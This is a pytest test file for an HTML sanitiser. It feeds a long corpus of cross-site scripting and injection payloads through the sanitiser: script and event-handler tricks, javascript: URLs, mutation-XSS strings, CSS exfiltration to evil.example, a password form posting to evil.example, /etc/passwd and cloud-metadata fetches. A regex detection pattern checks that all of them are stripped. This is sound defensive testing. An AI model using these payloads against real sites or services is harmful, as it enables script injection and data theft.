"""A7: HTML from strangers, through the one sanitiser. That nothing runs in a real browser: tests/browser."""

from __future__ import annotations

import re

import pytest

from gigline.infra.html import sanitize_html, text_of

CORPUS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><form id=x></form><input name=y></form><math><form>",
    "<form action=https://evil.example><input type=password></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<img src='file:///etc/passwd'>",
    "<img src='php://filter/read=convert.base64-encode/resource=/etc/passwd'>",
    "<img src='http://169.254.169.254/latest/meta-data/'>",
    "<img src='https://track.example/open.gif' width=1 height=1>",
    "<div style='background:url(https://track.example/x)'>x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<style>@import 'https://evil.example/x.css'; input[value^=a]{background:url(//evil.example/a)}</style>",
    "<p id=app class=modal>x</p>",
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href=\"https://a.example\" onclick=alert(1) target=_top>x</a>",
    "<table background=javascript:alert(1)><td background='https://track.example/x'>x</table>",
    "<p xmlns:xlink='x' xlink:href='javascript:alert(1)'>x</p>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<a title='\"><img src=x onerror=alert(1)>'>x</a>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
]  # fmt: skip
NOTHING = re.compile(
    r"<\s*/?\s*(?:script|img|svg|math|iframe|object|embed|base|meta|link|form|input|style|video|template|noscript)"
    r"|<[^>]*\s(?:on\w+|style|src|srcdoc|background|id|class|action)\s*="
    r"|href\s*=\s*(?![\"']?(?:https?:|mailto:|tel:))",
    re.IGNORECASE,
)


@pytest.mark.parametrize("html", CORPUS)
def test_a7_a10_a15_nothing_is_left_that_runs_loads_or_covers(html: str):
    clean = sanitize_html(html)
    quoted = re.sub(r"title=\"[^\"]*\"", "", clean)
    assert not NOTHING.search(quoted), clean
    # What was made harmless stays harmless when it is read and written again.
    assert sanitize_html(clean) == clean


def test_what_people_write_stays():
    html = "<p>Hello <b>there</b>,<br>see <a href='https://acme.example/x'>this</a></p><ul><li>one</li></ul>"
    clean = sanitize_html(html)
    assert "<b>there</b>" in clean
    assert 'href="https://acme.example/x"' in clean
    assert 'rel="noopener noreferrer nofollow"' in clean
    assert text_of(html) == "Hello there,\nsee this\n\n- one"


def test_a_million_nested_elements_are_no_trouble():
    assert sanitize_html("<b>" * 100_000 + "x")
    assert text_of("<blockquote>" * 5_000 + "x").endswith("x")
